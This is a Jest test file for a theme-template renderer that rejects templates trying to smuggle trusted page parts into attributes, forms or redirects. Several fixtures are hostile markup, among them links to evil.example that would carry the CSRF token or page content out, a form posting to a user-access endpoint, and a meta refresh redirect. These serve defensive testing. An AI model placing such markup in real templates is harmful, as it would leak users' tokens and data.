import { afterAll, beforeEach, describe, expect, it, jest } from '@jest/globals';
import { TemplateRenderer } from './template-renderer.service.js';
import { type Frame, type FrameParts, ThemeFrames } from './theme-frames.service.js';

const renderer = new TemplateRenderer();
afterAll(() => renderer.onModuleDestroy());

const parts: FrameParts = {
  head: '<meta charset="utf-8">',
  title: 'A & B',
  content: '<main>$& {{ title }}</main>',
  navigation: '<nav>N</nav>',
  messages: '<p>Saved</p>',
  csrf_field: '<input name="csrfmiddlewaretoken">',
  page: 'start',
  user: { first_name: '<Ann>' },
};
const lookOf = (template: string, id = '1') => ({ id, title: 'Night', css: '/n.css', logo: '/media/n.svg', template });

describe('a page in the frame of a theme', () => {
  let frames: ThemeFrames;
  const render = (template: string, given: Partial<FrameParts> = {}): Promise<Frame> =>
    frames.render(lookOf(template), { ...parts, ...given });
  const reasonOf = async (template: string): Promise<string | undefined> => (await render(template)).reason;

  beforeEach(() => {
    frames = new ThemeFrames(renderer);
    jest.spyOn((frames as unknown as { logger: { warn(): void } }).logger, 'warn').mockReturnValue();
  });

  it('should have no trusted part within a tag, whatever the template makes of it', async () => {
    const page = (rest: string): string => `<main>{{ content }}</main>${rest}`;
    const reason = (part: string) =>
      `The template cannot be shown: {{ ${part} }} stands within a tag, a comment or hidden text.`;
    expect(await reasonOf("<a href='https://evil.example/?{{ content }}'>.</a>")).toBe(reason('content'));
    expect(await reasonOf(page('<a href=//evil.example/{{ csrf_field }}>.</a>'))).toBe(reason('csrf_field'));
    expect(await reasonOf(page('<a title=">" href="/?{{ messages | url_encode }}">.</a>'))).toBe(reason('messages'));
    expect(await reasonOf(page('<p {{ navigation }}>'))).toBe(reason('navigation'));
    expect(await reasonOf(page('<script><x y="</script><a href="><b>{{ messages }}">'))).toBe(reason('messages'));
    expect(await reasonOf('<html><head>{{ head }}</head><body {{ csrf_field }}>{{ content }}</body></html>')).toBe(
      reason('csrf_field'),
    );
    expect(await reasonOf(page('<noscript><a href="{{ messages }}">.</a></noscript>'))).toBe(reason('messages'));
    const hidden = '<noscript><p title="</noscript><a href="><b>{{ messages }}">';
    expect(await reasonOf(page(hidden))).toBe(reason('messages'));
    expect(await reasonOf(page('<template><p title="{{ messages }}"></template>'))).toBe(reason('messages'));
    // What the part itself ends, or what it joins where it is empty.
    const link = '<a href="//evil.example/{{ csrf_field }}">';
    expect(await reasonOf(page(`<{{ messages }}a href="//evil.example/{{ csrf_field }}">`))).toBe(reason('messages'));
    expect(await reasonOf(page(`<!x {{ navigation }}${link}`))).toBe(reason('navigation'));
    expect(await reasonOf(page(`</{{ navigation }}${link}`))).toBe(reason('navigation'));
    expect(await reasonOf(page(`<textarea>{{ navigation }}${link}`))).toBe(reason('navigation'));
    expect(await reasonOf(page(`<svg>{{ navigation }}<![CDATA[>${link}]]>`))).toBe(reason('navigation'));
    expect(await reasonOf(page(`<!-{{ messages }}- ><p t="--><a href="><b>{{ csrf_field }}">`))).toBe(
      reason('messages'),
    );
    expect(await reasonOf(page('<p title=">">{{ messages }}</p><table>{{ csrf_field }}</table>'))).toBeUndefined();
  });

  it('should have no form of the page in one of the template, whatever browsers make of its tags', async () => {
    const reason = (part: string) => `The template cannot be shown: {{ ${part} }} stands within a form.`;
    const page = '{{ navigation }}{{ messages }}{{ content }}';
    expect(await reasonOf(`<form method="post" action="/users/4/access/">${page}</form>`)).toBe(reason('navigation'));
    expect(await reasonOf('<form action=/x>{{ content }}</form>')).toBe(reason('content'));
    expect(await reasonOf('<form>{{ navigation }}</form>{{ content }}')).toBe(reason('navigation'));
    expect(await reasonOf('<form action=/x><b>{{ messages }}</b></form>{{ content }}')).toBe(reason('messages'));
    // Open, though no ancestor.
    expect(await reasonOf(`<div><form action=/x></div>${page}`)).toBe(reason('navigation'));
    expect(await reasonOf(`<table><form action=/x></table>${page}`)).toBe(reason('navigation'));
    expect(await reasonOf(`<table><tr><form action=/x><td>.</table>${page}`)).toBe(reason('navigation'));
    // Where no scripts run.
    expect(await reasonOf(`<noscript><div><form action=/x></div></noscript>${page}`)).toBe(reason('navigation'));
    const joins = 'The template cannot be shown: it has the attribute "form".';
    expect(await reasonOf(`${page}<button form="bin" formaction="/users/4/access/">.</button>`)).toBe(joins);
    expect(await reasonOf(`<html><head>{{ head }}</head>${page}<input FORM=bin name=x></html>`)).toBe(joins);
    expect(await reasonOf(`${page}<noscript><button form=bin>.</button></noscript>`)).toBe(joins);
    // What templates may have of forms.
    const own = '<form action="/search/"><input name="q" formaction="x"></form>';
    expect(await reasonOf(`${own}${page}${own}<form method="post" action="/logout/">{{ csrf_field }}</form>`)).toBe(
      undefined,
    );
    expect(await reasonOf(`<table><tr><td>${page}</table><p>form="x"</p>`)).toBeUndefined();
  });

  it('should have the trusted parts as they are, and values escaped', async () => {
    expect(
      await render(
        '{{ navigation }}|{{ messages }}|{{ title }}|{{ user.first_name }}|{{ logo }}|{{ page }}|{{ content }}',
      ),
    ).toEqual({
      kind: 'body',
      html: '<nav>N</nav>|<p>Saved</p>|A &amp; B|&lt;Ann&gt;|/media/n.svg|start|<main>$& {{ title }}</main>',
    });
  });

  it('should be a document of its own when the template has one', async () => {
    expect(
      await render('<!doctype html><HTML lang="{{ language }}"><head>{{ head }}</head>{{ content }}</html>'),
    ).toEqual({
      kind: 'document',
      html: `<!doctype html><HTML lang="en"><head>${parts.head}</head>${parts.content}</html>`,
    });
  });

  it('should tell what can be divided by what', async () => {
    const template =
      '{% for i in (1..4) %}{% if forloop.counter|divisibleby:"2" %}{{ i }}{% endif %}{% endfor %}{{ 9|divisibleby:"3"|yesno }}{{ content }}';
    expect((await render(template)).html).toBe(`24yes${parts.content}`);
  });

  it('should have nothing of the head in the body of ours', async () => {
    const { html } = await frames.render(lookOf('{{ head }}{{ content }}'), { ...parts, head: '<title>' });
    expect(html).toBe(`${parts.content}`);
  });

  it.each([
    ['<p>nothing</p>', 'The template does not print {{ content }}.'],
    ['{{ content }}{{ content }}', 'The template prints 2 times, not once, {{ content }}.'],
    ['<html>{{ content }}</html>', 'The template does not print {{ head }}.'],
    ['<html>{{ head }}{{ head }}{{ content }}</html>', 'The template prints 2 times, not once, {{ head }}.'],
    [
      '{{ content }}{% for i in (1..5) %}{{ navigation }}{% endfor %}',
      'The template prints 5 times, not 4 at most, {{ navigation }}.',
    ],
    ['{{ head }}{{ head }}{{ content }}', 'The template prints 2 times, not 1 at most, {{ head }}.'],
    ['{{ content | upcase }}', 'The template does not print {{ content }}.'],
    ['{{ content }}<meta HTTP-EQUIV=refresh content="0;url=https://a.example">', 'The template has http-equiv.'],
    [
      '{{ content }}<meta http-{{ head }}equiv="&#114;efresh">',
      'The template cannot be shown: {{ head }} stands within a tag, a comment or hidden text.',
    ],
    ['{{ content }}<meta http-equiv="x-ua-compatible-not">', 'The template has http-equiv.'],
    ['a\n {% if x %}{{ content }}', 'The template cannot be shown: tag {% if x %} not closed (line 2, column 2).'],
    ['{{ content', 'The template cannot be shown: output "{{ content" not closed (line 1, column 1).'],
  ])('should not be made of %j', async (template, reason) => {
    expect(await reasonOf(template)).toBe(reason);
  });

  it('should be made of whatever names and titles there are, but for what a template prints raw', async () => {
    const given = { title: 'HTTP-equiv', user: { first_name: 'http-equiv="refresh"' } };
    expect((await render('<a title="{{ title }}">{{ user.first_name }}</a>{{ content }}', given)).html).toBe(
      `<a title="HTTP&#45;equiv">http&#45;equiv=&#34;refresh&#34;</a>${parts.content}`,
    );
    expect((await render('{{ title | raw }}{{ content }}', given)).reason).toBe('The template has http-equiv.');
  });

  it('should be made of what old documents say of themselves', async () => {
    const old = '<meta http-equiv="X-UA-Compatible" content="IE=edge"><meta http-equiv=content-type>';
    expect((await render(`${old}{{ content }}`)).html).toBe(old + parts.content);
  });

  it('should fill the regions of our frame for a template of the old platform', async () => {
    const template = `{% load i18n %}{% themeextends "base.html" %}
{% block heading %}<h2>{% trans "Media" %}</h2>{% endblock %}
{% block footer %}<form>{% csrf_token %}</form>{% endblock %}`;
    const { html } = await render(template, { words: { Media: 'Medien' } });
    const shown = [
      '<img src="/media/n.svg"',
      '<h2>Medien</h2>',
      parts.navigation,
      parts.messages,
      parts.content,
      parts.csrf_field!,
    ];
    const places = shown.map((text) => html!.indexOf(text));
    expect(places.every((place) => place >= 0)).toBe(true);
    expect(places).toEqual(places.toSorted((a, b) => a - b));
  });

  it('should not be tried again for a while once it has failed, and then as soon as the template is another one', async () => {
    const page = jest.spyOn(renderer, 'page');
    const now = jest.spyOn(Date, 'now').mockReturnValue(1_000_000);
    try {
      const times = async (): Promise<number> => (await render('no'), page.mock.calls.length);
      expect(await times()).toBe(1);
      expect(await times()).toBe(1);
      expect(frames.failureOf(lookOf('no'))).toEqual({
        at: 1_000_000,
        page: 'start',
        reason: 'The template does not print {{ content }}.',
      });
      expect(frames.failureOf(lookOf('yes'))).toBeUndefined();
      now.mockReturnValue(1_010_000);
      expect(await times()).toBe(2);
      // Twice as long as before.
      now.mockReturnValue(1_029_999);
      expect(await times()).toBe(2);
      now.mockReturnValue(1_030_000);
      expect(await times()).toBe(3);
      expect(await render('{{ content }}')).toMatchObject({ html: parts.content });
      expect(frames.failureOf(lookOf('no'))).toBeUndefined();
    } finally {
      now.mockRestore();
      page.mockRestore();
    }
  });

  it('should come soon though the theme of somebody else never ends, which is only looked at', async () => {
    await render('{{ content }}');
    const endless = '{% for a in (1..999) %}'.repeat(4) + 'x' + '{% endfor %}'.repeat(4);
    // On a busy machine both may take long once, but the page does not wait for the other each time.
    let first = 'trial';
    for (let n = 0; n < 4 && first === 'trial'; n++) {
      const trial = frames.render(lookOf(endless, '2'), parts, true);
      const page = render(`{{ content }}${' '.repeat(n + 1)}`);
      first = await Promise.race([trial.then(() => 'trial'), page.then(() => 'page')]);
      expect((await page).html).toBe(parts.content + ' '.repeat(n + 1));
      expect((await trial).reason).toMatch(/^The template cannot be shown: /);
    }
    expect(first).toBe('page');
    expect(frames.failureOf(lookOf(endless, '2'))).toBeUndefined();
  });

  it('should be tried again at once when others took too long before it', async () => {
    const page = jest
      .spyOn(renderer, 'page')
      .mockResolvedValueOnce({ html: null, problem: { message: 'busy' }, isBusy: true });
    const template = '{{ content }} busy';
    expect((await frames.render(lookOf(template, '77'), parts)).reason).toBeDefined();
    expect(frames.failureOf(lookOf(template, '77'))).toBeUndefined();
    expect((await frames.render(lookOf(template, '77'), parts)).html).toBe(`${parts.content} busy`);
    page.mockRestore();
  });

  it('should come though the theme of somebody else hangs', async () => {
    const hanging = `{{ "${'b a '.repeat(5000)}"${' | split: " " | sort | join: " "'.repeat(1000)} }}{{ content }}`;
    const [bad, good] = await Promise.all([
      frames.render(lookOf(hanging, '2'), parts),
      frames.render(lookOf('{{ content }}', '3'), parts),
    ]);
    expect(bad.reason).toMatch(/^The template cannot be shown: /);
    expect(good.html).toBe(parts.content);
  });
});
